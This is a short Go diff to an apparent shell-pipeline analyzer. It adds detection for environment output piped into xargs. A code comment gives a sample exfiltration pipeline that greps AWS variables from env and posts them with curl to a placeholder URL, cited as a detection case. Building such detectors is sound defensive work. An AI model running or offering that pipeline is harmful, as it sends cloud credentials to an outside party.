@@ -976,8 +976,11 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 				text, haveText = printedByCode(lang, argv[1:])
 			}
 		}
-		if name == "xargs" && len(feed) > 0 {
+		switch {
+		case name == "xargs" && len(feed) > 0:
 			a.xargs(argv[1:], feed, feedRec)
+		case name == "xargs" && prevEnv:
+			a.xargs(argv[1:], []string{"$(env)"}, false) // `env | grep AWS | xargs -I{} curl -d {} URL` (det69)
 		}
 		feed, feedRec = a.lists(name, argv[1:])
 		if i > 0 && src != "" && interpreter(name) && (!runsFile(name, argv[1:]) || evalsStdin(name, argv[1:])) {
